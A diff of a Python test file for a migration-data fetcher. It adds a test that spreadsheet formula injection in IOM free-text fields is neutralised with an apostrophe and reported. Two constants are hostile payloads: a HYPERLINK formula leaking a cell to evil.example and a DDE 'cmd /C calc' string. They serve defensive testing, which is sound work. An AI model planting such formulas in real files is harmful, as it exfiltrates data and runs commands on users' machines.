@@ -216,7 +216,6 @@ def api_source(base: str, table: Table) -> Source:
         title="demo API",
         publisher="demo",
         landing_page="https://example.org",
-        licence="demo",
         files=(),
         tables=(table,),
         process=process,
@@ -432,3 +431,64 @@ def test_redirect_policy(tmp_path, there, ok, make_source):
     else:
         with pytest.raises(FetchError, match="redirected"):
             fetcher._check_redirect(origin, origin, there)
+
+
+# ----------------------------------------------------------------------------- spreadsheet-safe tables
+
+#: text a hostile or careless publisher could put in a free-text field (OWASP's examples)
+HOSTILE_LOCATION = '=HYPERLINK("https://evil.example/leak?x="&A1,"see the map")'
+HOSTILE_CAUSE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def _formula_cells(text: str) -> list[str]:
+    import csv
+
+    from migrationdata.store import _NUMBER, FORMULA_TRIGGERS
+
+    return [
+        cell
+        for row in csv.reader(io.StringIO(text, newline=""))
+        for cell in row
+        if cell.startswith(FORMULA_TRIGGERS) and not _NUMBER.fullmatch(cell)
+    ]
+
+
+@pytest.mark.mirror
+def test_a_hostile_text_from_the_publisher_lands_inert_in_the_processed_table(servers, mirror, tmp_data):
+    """IOM's free-text fields reach missing_migrants_incidents verbatim: a place and a cause
+    written as formulas, served from the loopback server in a real R file, are written with an
+    apostrophe (and a warning naming the table, column and row), read back exactly by the
+    loader, and the numbers beside them (a negative longitude) stay numbers."""
+    import scenarios as sc
+
+    from migrationdata import processed
+    from migrationdata.catalog import get_source
+
+    def hostile(df):
+        # the deadliest incident on the route in August 2023: 27 dead and missing, Oaxaca
+        i = sc._mmp_largest_on_route(df)
+        df.loc[i, "location"] = HOSTILE_LOCATION
+        df.loc[i, "cause"] = HOSTILE_CAUSE
+        return df
+
+    true = (mirror / "missing-migrants" / "iom_mmp.rda").read_bytes()
+    servers.reset()
+    servers.http.serve_body("missing-migrants", "iom_mmp.rda", sc._rda_edit("iom_mmp", hostile)(true))
+    rep = fetch_source(get_source("missing_migrants"), mirror=servers.http.base, base=tmp_data)
+    assert rep.status == "updated", rep.error
+    said = " ".join(rep.warnings)
+    assert "missing_migrants_incidents: 1 text cell in location began like a spreadsheet formula" in said
+    assert "date=2023-08-07, seq=5" in said and "1 text cell in cause" in said
+
+    text = (tmp_data / "processed" / "missing_migrants_incidents.csv").read_text(encoding="utf-8")
+    assert _formula_cells(text) == []
+    [line] = [ln for ln in text.splitlines() if ln.startswith("2023-08-07,5,")]
+    assert ",MEX,Mexico,,27,," in line and "'@SUM(1+1)" in line and "'=HYPERLINK(" in line
+    assert line.endswith(",16.252671,-94.446526")  # a negative number, written as a number
+
+    df = processed.read("missing_migrants_incidents", tmp_data)
+    row = df[(df["date"] == "2023-08-07") & (df["seq"] == 5)].iloc[0]
+    assert (row["location"], row["cause"]) == (HOSTILE_LOCATION, HOSTILE_CAUSE)
+    assert row["longitude"] == -94.446526 and row["dead_and_missing"] == 27
+    # every other text cell is as a clean fetch writes it: nothing else gained an apostrophe
+    assert text.count("'=") == 1 and text.count("'@") == 1
